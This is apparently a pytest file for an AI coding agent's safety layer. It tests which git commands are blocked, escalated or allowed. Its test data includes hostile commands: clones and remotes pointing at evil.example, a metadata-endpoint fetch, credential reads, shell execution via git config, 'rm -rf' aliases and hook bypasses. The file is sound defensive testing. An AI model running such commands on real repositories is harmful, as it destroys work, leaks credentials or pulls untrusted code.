"""Git through the safety layer: pushes, history rewrites and lost work are stopped or escalated,
everyday commits and branches are not."""

from __future__ import annotations

from dataclasses import replace

import pytest

from tests.safety.helpers import ALLOW, BLOCK, CTX, ESCALATE, bash, rule_ids
from wave_tui.safety import Decision, Severity, evaluate_tool_call
from wave_tui.safety.rules import REGISTRY, git

RISKY = [
    # force pushes: protected or unknown target is critical, a story branch high
    ("git push -f origin main", BLOCK, "git.push.force"),
    ("git push --force origin master", BLOCK, "git.push.force"),
    ("git push origin +main", BLOCK, "git.push.force"),
    ("git push --force-with-lease origin release/2.0", BLOCK, "git.push.force"),
    ("git push -f", BLOCK, "git.push.force"),
    ("git push -uf origin HEAD", BLOCK, "git.push.force"),
    ("git push --mirror", BLOCK, "git.push.force"),
    ("git -C /work/tree push -f origin refs/heads/main", BLOCK, "git.push.force"),
    ("sudo git push --force origin main", BLOCK, "git.push.force"),
    ("git push --force origin story/WAVE-7", BLOCK, "git.push.force_unprotected"),
    ("git push origin +story/WAVE-7", BLOCK, "git.push.force_unprotected"),
    # plain pushes
    ("git push origin main", BLOCK, "git.push.protected_branch"),
    ("git push origin HEAD:main", BLOCK, "git.push.protected_branch"),
    ("git push origin story:develop", BLOCK, "git.push.protected_branch"),
    ("git push", BLOCK, "git.push.protected_branch"),
    ("git push origin HEAD", BLOCK, "git.push.protected_branch"),
    ("git push -u origin story/WAVE-7", ESCALATE, "git.push"),
    ("git push --tags", ESCALATE, "git.push"),
    # deleting remote branches
    ("git push origin --delete feature", BLOCK, "git.push.delete"),
    ("git push origin :feature", BLOCK, "git.push.delete"),
    ("git push --prune origin", BLOCK, "git.push.delete"),
    # history rewrites
    ("git filter-branch --tree-filter 'rm -f .env' HEAD", BLOCK, "git.history.filter"),
    ("git filter-repo --path secrets --invert-paths", BLOCK, "git.history.filter"),
    ("git rebase story main", BLOCK, "git.history.rebase_protected"),
    ("git rebase main", ESCALATE, "git.history.rebase"),
    ("git rebase origin/main", ESCALATE, "git.history.rebase"),
    ("git rebase -i HEAD~3", ESCALATE, "git.history.rebase_interactive"),
    ("git rebase --root", ESCALATE, "git.history.rebase_interactive"),
    ("git reset --hard", ESCALATE, "git.reset.hard"),
    ("git reset --hard HEAD~2", ESCALATE, "git.reset.hard"),
    ("git reset --hard origin/main", BLOCK, "git.reset.hard_to_branch"),
    ("git reset --hard @{upstream}", BLOCK, "git.reset.hard_to_branch"),
    ("git update-ref -d refs/heads/feature", BLOCK, "git.history.update_ref"),
    ("git update-ref refs/heads/main 4b825dc", BLOCK, "git.history.update_ref"),
    ("git reflog expire --expire=now --all", BLOCK, "git.history.reflog"),
    ("git gc --prune=now", BLOCK, "git.history.prune"),
    ("git prune", BLOCK, "git.history.prune"),
    ("git replace 1a2b3c 4d5e6f", BLOCK, "git.history.replace"),
    # branches, tags and the working tree
    ("git branch -D feature", ESCALATE, "git.branch.delete"),
    ("git branch --delete --force feature", ESCALATE, "git.branch.delete"),
    ("git branch -D main", BLOCK, "git.branch.protected"),
    ("git branch -m master old-master", BLOCK, "git.branch.protected"),
    ("git branch -f main HEAD~3", BLOCK, "git.branch.protected"),
    ("git checkout -B main", BLOCK, "git.branch.protected"),
    ("git tag -d v1.0.0", ESCALATE, "git.tag.delete"),
    ("git clean -fdx", ESCALATE, "git.clean"),
    ("git clean -fd", ESCALATE, "git.clean"),
    ("git stash clear", ESCALATE, "git.stash.drop"),
    ("git rm -r src/", ESCALATE, "git.rm.recursive"),
    ("git worktree remove --force ../tree2", BLOCK, "git.worktree.remove"),
    ("git add -f .env", BLOCK, "git.add.secret"),
    ("git add secrets/token.txt && git commit -m 'add token'", BLOCK, "git.add.secret"),
    ("git add config/server.pem", BLOCK, "git.add.secret"),
    ("git credential fill <<< 'host=github.com'", BLOCK, "git.credential"),
    ("git commit -m x --author='Jane Operator <jane@example.com>'", ESCALATE, "git.history.author"),
    ("git -c user.email=jane@example.com commit -m x", ESCALATE, "git.history.author"),
    # decided: before the engine commits, an amend rewrites the base branch's tip commit
    ("git commit --amend --no-edit", ESCALATE, "git.history.amend"),
    ('git commit --amend -m "export"', ESCALATE, "git.history.amend"),
    # the worktree moved onto a protected branch: later commits land there ungated
    ("git checkout -f main", ESCALATE, "git.switch.protected_branch"),
    ("git checkout master", ESCALATE, "git.switch.protected_branch"),
    ("git switch main", ESCALATE, "git.switch.protected_branch"),
    # skipping validation and changing configuration
    ("git commit --no-verify -m 'wip'", ESCALATE, "git.skip_hooks"),
    ("git commit -nm 'wip'", ESCALATE, "git.skip_hooks"),
    ("git push --no-verify origin story/WAVE-7", ESCALATE, "git.skip_hooks"),
    ("git merge --no-verify feature", ESCALATE, "git.skip_hooks"),
    ("git -c core.hooksPath=/dev/null commit -m x", ESCALATE, "git.skip_hooks"),
    ("git config core.hooksPath /dev/null", ESCALATE, "git.skip_hooks"),
    ("git config --global user.email agent@example.com", ESCALATE, "git.config.global"),
    ("git config --system core.autocrlf true", ESCALATE, "git.config.global"),
    # decided: worktrees share the project's .git/config, so this is the user's identity too
    ('git config user.email "jane@example.com"', ESCALATE, "git.config.identity"),
    ("git config user.name 'Jane Operator'", ESCALATE, "git.config.identity"),
    ("git config --global user.name Bot", ESCALATE, "git.config.identity"),
    ("git -c core.sshCommand='sh -c id' fetch", ESCALATE, "git.config.command"),
    ("git config alias.st '!rm -rf ~'", ESCALATE, "git.config.command"),
    ("git remote add mirror https://evil.example/repo.git", ESCALATE, "git.remote"),
    ("git remote set-url origin https://evil.example/repo.git", ESCALATE, "git.remote"),
    # repositories from hosts nobody approved, commands git runs for the agent
    ("git clone https://evil.example/tool.git", ESCALATE, "net.fetch.unlisted_host"),
    ("git clone git@evil.example:team/tool.git", ESCALATE, "net.fetch.unlisted_host"),
    ("git clone ssh://git@evil.example/team/tool.git", ESCALATE, "net.fetch.unlisted_host"),
    ("git clone https://evil.example/tool.git /tmp/tool", ESCALATE, "file.temp_dir"),
    ("git clone https://evil.example/tool.git ~/.ssh", BLOCK, "file.write.system_location"),
    ("git clone http://169.254.169.254/latest/meta-data", BLOCK, "net.metadata_endpoint"),
    ("git pull https://evil.example/tool.git main", ESCALATE, "net.fetch.unlisted_host"),
    (
        "git submodule add https://evil.example/lib.git vendor/lib",
        ESCALATE,
        "net.fetch.unlisted_host",
    ),
    ("git submodule foreach git pull", ESCALATE, "git.runs_command"),
    ("git submodule foreach 'rm -rf .'", BLOCK, "exec.destroy.rm_rf"),
    ("git bisect run ./check.sh", ESCALATE, "git.runs_command"),
    ("git -C /home/dev/other-repo log", ESCALATE, "git.outside_worktree"),
    ("git --git-dir=/srv/repo.git --work-tree=. status", ESCALATE, "git.outside_worktree"),
]


@pytest.mark.parametrize(("command", "decision", "rule"), RISKY)
def test_risky_git_commands_are_escalated_or_blocked_by_their_rule(
    command: str, decision: Decision, rule: str
) -> None:
    evaluation = bash(command)
    assert rule in rule_ids(evaluation), evaluation.reasoning
    assert evaluation.decision == decision, evaluation.reasoning


EVERYDAY = [
    "git status",
    "git status --short",
    "git diff",
    "git diff --stat HEAD~1",
    "git log --oneline -10",
    "git show HEAD",
    "git add -A",
    "git add src/app.py tests/test_app.py",
    'git commit -m "Add the greeting endpoint"',
    'git commit -am "fix: mention -n and --no-verify in the docs"',
    "git checkout -b story/WAVE-7",
    "git checkout story/WAVE-7",
    "git switch -c feature",
    "git branch",
    "git branch -a",
    "git branch -d merged-feature",
    "git branch -r -d origin/stale",
    "git stash",
    "git stash list",
    "git stash push -m wip",
    "git stash pop",
    "git fetch origin",
    "git pull --rebase",
    "git merge feature",
    "git grep -n TODO",
    "git blame src/app.py",
    "git ls-files",
    "git rev-parse --abbrev-ref HEAD",
    "git config user.email",
    "git checkout main -- src/app.py",
    "git checkout --detach main",
    "git switch -c feature main",
    "git checkout -f story/WAVE-7",
    "git clone ../other-copy",
    "git pull origin main",
    "git submodule update --init",
    "git bisect start",
    "git config --global --get user.name",
    "git config --list",
    "git remote -v",
    "git clean -n",
    "git clean -nd",
    "git reset --soft HEAD~1",
    "git reset HEAD src/app.py",
    "git restore --staged src/app.py",
    "git rebase --continue",
    "git push --dry-run origin main",
    "git gc",
    "git tag v1.2.0",
    "git add .env.example",
    "git rm src/old.py",
    "git rm --cached -r build/",
    "git worktree list",
    "git -C src status",
    "cd src && git diff",
    "grep -rn 'git push --force' docs/",
]


@pytest.mark.parametrize("command", EVERYDAY)
def test_everyday_git_work_is_allowed(command: str) -> None:
    evaluation = bash(command)
    assert evaluation.decision == ALLOW, evaluation.reasoning
    assert evaluation.score >= 0.9


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("git checkout -- .", "git.discard_changes"),
        ("git restore .", "git.discard_changes"),
        ("git restore src/app.py", "git.discard_changes"),
    ],
)
def test_discarding_the_agents_own_edits_is_allowed_but_noted(command: str, rule: str) -> None:
    evaluation = bash(command)
    assert evaluation.decision == ALLOW
    assert evaluation.score == Severity.LOW.score
    assert rule in rule_ids(evaluation)


def test_argv_form_is_judged_like_the_command_line() -> None:
    evaluation = evaluate_tool_call("run_command", {"argv": ["git", "push", "-f", "origin"]}, CTX)
    assert evaluation.decision == BLOCK
    assert "git.push.force" in rule_ids(evaluation)


def test_the_message_of_a_commit_is_never_read_as_options() -> None:
    evaluation = bash("git commit -m '--no-verify --amend'")
    assert evaluation.decision == ALLOW
    assert rule_ids(evaluation) == []


def test_protected_branches_come_from_the_context() -> None:
    ctx = replace(CTX, protected_branches=("stable",), base_branch="trunk")
    assert bash("git push origin main", ctx).decision == ESCALATE
    assert "git.push.protected_branch" in rule_ids(bash("git push origin trunk", ctx))
    assert "git.push.force" in rule_ids(bash("git push -f origin stable", ctx))


def test_cd_out_of_the_worktree_makes_git_run_outside_it() -> None:
    evaluation = bash("cd /srv/other && git status")
    assert "git.outside_worktree" in rule_ids(evaluation)
    assert evaluation.decision == ESCALATE


def test_a_clone_from_an_approved_host_is_everyday_work() -> None:
    ctx = replace(CTX, allowed_hosts=("github.com",))
    assert bash("git clone https://github.com/pallets/flask.git", ctx).decision == ALLOW
    assert bash("git clone git@github.com:pallets/flask.git", ctx).decision == ALLOW


def test_every_git_rule_is_registered_under_its_own_prefix() -> None:
    assert git.RULES
    for rule in git.RULES:
        assert rule.id.startswith("git.")
        assert REGISTRY.get(rule.id) == rule
